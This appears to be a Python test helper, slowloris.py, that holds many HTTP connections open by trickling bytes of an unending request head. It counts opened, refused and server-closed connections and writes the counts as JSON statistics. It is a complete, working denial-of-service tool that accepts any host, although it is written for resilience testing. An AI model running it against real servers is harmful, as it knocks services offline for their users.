#!/usr/bin/python3
"""slowloris.py - hold many HTTP connections open by trickling bytes.

Usage: slowloris.py HOST PORT N SECONDS STATS [--source ADDR]
           [--every MS] [--complete | --hold]

Opens N connections to HOST:PORT (from the local address ADDR when
given, so that a test can attack from 127.0.0.2 while everything else
uses 127.0.0.1), and every MS milliseconds (default 500) sends each one
the next byte of a request head that never ends. A connection the server
closes is opened again at once. With --complete, each connection sends a
whole request head without credentials at once instead and is not
opened again (the answer is recorded: 503 for a connection in the
agents' reserve). With --hold, each connection sends nothing and is not
opened again once closed (a test that wants descriptors held, not a
storm of new connections).

Runs for SECONDS (or until SIGTERM), then writes STATS as JSON:
opened, closed_by_server, refused (connect() failed), answers
(status -> count), open_now, max_open, and the seconds each closed
connection lived (closed_lifetimes_max). Also rewrites STATS every second
while it runs.
"""
import argparse
import errno
import json
import os
import selectors
import signal
import socket
import time

HEAD = b"GET /v1/jobs HTTP/1.1\r\nHost: x\r\nUser-Agent: slowloris\r\n"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("n", type=int)
    ap.add_argument("seconds", type=float)
    ap.add_argument("stats")
    ap.add_argument("--source", default=None)
    ap.add_argument("--every", type=int, default=500)
    ap.add_argument("--complete", action="store_true")
    ap.add_argument("--hold", action="store_true")
    a = ap.parse_args()

    st = {"opened": 0, "closed_by_server": 0, "refused": 0, "answers": {},
          "open_now": 0, "max_open": 0, "closed_lifetimes_max": 0.0}
    sel = selectors.DefaultSelector()
    conns = {}  # sock -> [bytes sent, opened at]
    stop = [False]
    signal.signal(signal.SIGTERM, lambda *_: stop.__setitem__(0, True))

    def open_one():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            if a.source:
                s.bind((a.source, 0))
            s.setblocking(False)
            rc = s.connect_ex((a.host, a.port))
            if rc not in (0, errno.EINPROGRESS):
                raise OSError(rc, "connect")
        except OSError:
            st["refused"] += 1
            s.close()
            return
        conns[s] = [0, time.monotonic()]
        sel.register(s, selectors.EVENT_READ)
        st["opened"] += 1
        if a.complete:
            try:
                s.send(HEAD + b"\r\n")
            except OSError:
                pass

    def gone(s):
        sel.unregister(s)
        life = time.monotonic() - conns.pop(s)[1]
        st["closed_lifetimes_max"] = max(st["closed_lifetimes_max"], life)
        st["closed_by_server"] += 1
        s.close()

    def write_stats():
        st["open_now"] = len(conns)
        with open(a.stats + ".tmp", "w") as f:
            json.dump(st, f)
        os.replace(a.stats + ".tmp", a.stats)

    for _ in range(a.n):
        open_one()
    end = time.monotonic() + a.seconds
    next_tick = time.monotonic()
    next_stats = time.monotonic() + 1
    while not stop[0] and time.monotonic() < end:
        for key, _ in sel.select(timeout=0.05):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if data:
                code = data.split(b" ", 2)[1].decode() if data.startswith(
                    b"HTTP/") else "?"
                st["answers"][code] = st["answers"].get(code, 0) + 1
                continue
            gone(s)
        while (len(conns) < a.n and not stop[0] and not a.complete and
               not a.hold):
            before = st["refused"]
            open_one()
            if st["refused"] > before:
                break
        st["max_open"] = max(st["max_open"], len(conns))
        now = time.monotonic()
        if now >= next_tick and not a.complete and not a.hold:
            next_tick = now + a.every / 1000.0
            for s, c in list(conns.items()):
                b = HEAD[c[0] % len(HEAD):c[0] % len(HEAD) + 1]
                try:
                    s.send(b)
                    c[0] += 1
                except OSError:
                    pass
        if now >= next_stats:
            next_stats = now + 1
            write_stats()
    write_stats()
    for s in list(conns):
        s.close()


if __name__ == "__main__":
    main()
